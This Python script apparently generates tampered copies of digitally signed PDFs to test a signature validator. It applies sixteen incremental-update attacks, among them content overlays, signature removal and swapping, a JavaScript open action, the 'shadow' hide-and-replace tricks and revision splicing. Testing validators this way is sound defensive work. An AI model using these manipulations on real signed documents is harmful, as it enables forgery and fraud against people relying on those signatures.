"""Changes sealed files the way an attacker with pyHanko's writers would, without our keys.

Usage: attack.py SEALED.pdf PREPARED.pdf FOLDER
Writes one file for each attack into FOLDER and prints their names.
"""

import io
import pathlib
import sys

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.content import RawContent
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.sign.fields import SigFieldSpec, append_signature_field

sealed = pathlib.Path(sys.argv[1]).read_bytes()
folder = pathlib.Path(sys.argv[3])


def page(writer, number=0):
    reference, _ = writer.find_page_for_modification(number)
    return reference.get_object(), reference


def rotate(writer):
    the_page, reference = page(writer)
    the_page["/Rotate"] = generic.NumberObject(180)
    writer.mark_update(reference)


def shrink_page(writer):
    the_page, reference = page(writer)
    the_page["/CropBox"] = generic.ArrayObject(map(generic.NumberObject, (0, 0, 10, 10)))
    writer.mark_update(reference)


def replace_content(writer):
    the_page, reference = page(writer)
    stream = generic.StreamObject(stream_data=b"0 0 500 500 re f")
    the_page["/Contents"] = writer.add_object(stream)
    writer.mark_update(reference)


def paint_over(writer):
    the_page, reference = page(writer)
    stream = writer.add_object(generic.StreamObject(stream_data=b"q 1 1 1 rg 0 0 600 900 re f Q"))
    old = the_page.raw_get("/Contents")
    the_page["/Contents"] = generic.ArrayObject([old, stream])
    writer.mark_update(reference)


def add_annotation(writer):
    the_page, reference = page(writer)
    note = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/FreeText"),
            pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, (50, 50, 500, 700))),
            pdf_name("/Contents"): generic.pdf_string("50,000"),
        }
    )
    annotations = the_page.get("/Annots", generic.ArrayObject())
    annotations.append(writer.add_object(note))
    the_page["/Annots"] = annotations
    writer.mark_update(reference)


def change_form(writer):
    fields = writer.root["/AcroForm"]["/Fields"]
    field = fields[0]
    form = field["/AP"]["/N"]
    stream = generic.StreamObject(dict_data=dict(form), stream_data=b"0 0 100 100 re f")
    for key in ("/Filter", "/Length", "/DecodeParms"):
        stream.pop(key, None)
    field["/AP"] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(stream)})
    writer.update_container(field)


def move_field(writer):
    field = writer.root["/AcroForm"]["/Fields"][2]
    field["/Rect"] = generic.ArrayObject(map(generic.NumberObject, (0, 0, 600, 800)))
    writer.update_container(field)


def remove_signature(writer):
    field = writer.root["/AcroForm"]["/Fields"][0]
    del field["/V"]
    writer.update_container(field)


def swap_signatures(writer):
    fields = writer.root["/AcroForm"]["/Fields"]
    one, other = fields[0].raw_get("/V"), fields[1].raw_get("/V")
    fields[0]["/V"], fields[1]["/V"] = other, one
    writer.update_container(fields[0])
    writer.update_container(fields[1])


def drop_certification(writer):
    del writer.root["/Perms"]
    writer.update_root()


def new_field(writer):
    append_signature_field(writer, SigFieldSpec("fourth", box=(10, 10, 100, 100)))


def open_action(writer):
    action = {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): generic.pdf_string("app.alert(1)")}
    writer.root["/OpenAction"] = generic.DictionaryObject(action)
    writer.update_root()


def change_title(writer):
    writer.set_info(generic.DictionaryObject({pdf_name("/Title"): generic.pdf_string("another")}))


def change_font(writer):
    """The shadow attack "replace": glyphs mean other characters than those that are seen."""
    the_page, _ = page(writer)
    fonts = the_page["/Resources"]["/Font"]
    font = fonts[next(iter(fonts))]
    font["/ToUnicode"] = writer.add_object(generic.StreamObject(stream_data=b"begincmap endcmap"))
    writer.update_container(font)


def replace_pages(writer):
    """The shadow attack "hide and replace": another page tree."""
    the_page, _ = page(writer)
    copy = generic.DictionaryObject(dict(the_page))
    copy["/Contents"] = writer.add_object(generic.StreamObject(stream_data=b""))
    kid = writer.add_object(copy)
    tree = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Pages"),
            pdf_name("/Kids"): generic.ArrayObject([kid]),
            pdf_name("/Count"): generic.NumberObject(1),
        }
    )
    writer.root["/Pages"] = writer.add_object(tree)
    writer.update_root()


def optional_content(writer):
    """The shadow attack "hide": a layer that can be switched."""
    group = writer.add_object(
        generic.DictionaryObject({pdf_name("/Type"): pdf_name("/OCG"), pdf_name("/Name"): generic.pdf_string("x")})
    )
    writer.root["/OCProperties"] = generic.DictionaryObject(
        {
            pdf_name("/OCGs"): generic.ArrayObject([group]),
            pdf_name("/D"): generic.DictionaryObject({pdf_name("/OFF"): generic.ArrayObject([group])}),
        }
    )
    writer.update_root()


ATTACKS = [
    rotate,
    shrink_page,
    replace_content,
    paint_over,
    add_annotation,
    change_form,
    move_field,
    remove_signature,
    swap_signatures,
    drop_certification,
    new_field,
    open_action,
    change_title,
    change_font,
    replace_pages,
    optional_content,
]


def ends(data):
    at, found = 0, []
    while (at := data.find(b"%%EOF\n", at)) >= 0:
        at += 6
        found.append(at)
    return found


# Each attack after the last signature, and after each earlier one, with the later signatures cut off.
for name, base in [("whole", sealed)] + [(f"cut{i}", sealed[:end]) for i, end in enumerate(ends(sealed)[-3:-1], 1)]:
    for attack in ATTACKS:
        writer = IncrementalPdfFileWriter(io.BytesIO(base), strict=False)
        try:
            attack(writer)
        except Exception as error:  # pylint: disable=broad-except
            if name == "whole":
                raise
            continue
        path = folder / f"{name}-{attack.__name__}.pdf"
        with open(path, "wb") as out:
            writer.write(out)
        print(path)
        # The same, with the later signatures put back behind it.
        if name != "whole":
            path = folder / f"{name}-{attack.__name__}-spliced.pdf"
            path.write_bytes((folder / f"{name}-{attack.__name__}.pdf").read_bytes() + sealed[len(base) :])
            print(path)
